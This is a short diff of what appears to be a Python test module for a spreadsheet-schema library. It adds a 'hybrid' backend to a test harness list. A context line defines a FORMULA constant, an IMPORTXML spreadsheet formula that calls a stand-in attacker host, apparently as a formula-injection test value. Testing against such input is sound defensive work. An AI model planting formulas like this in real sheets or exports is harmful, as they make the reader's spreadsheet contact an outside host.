@@ -16,7 +16,7 @@ from sheets_schema.changes import WriteJob
 from sheets_schema.errors import HeaderError, InvalidRowError, StaleWorkbookError
 from sheets_schema.tabs import ORDERS, PRODUCTS, STOCK, SYSTEM_STATE, TABS
 
-HARNESS_BACKENDS = ("sql", "postgresql", "google")
+HARNESS_BACKENDS = ("sql", "postgresql", "google", "hybrid")
 NOW = datetime(2026, 11, 30, 14, 5, tzinfo=JST)
 FORMULA = '=IMPORTXML("http://evil.example/x","//a")'
 
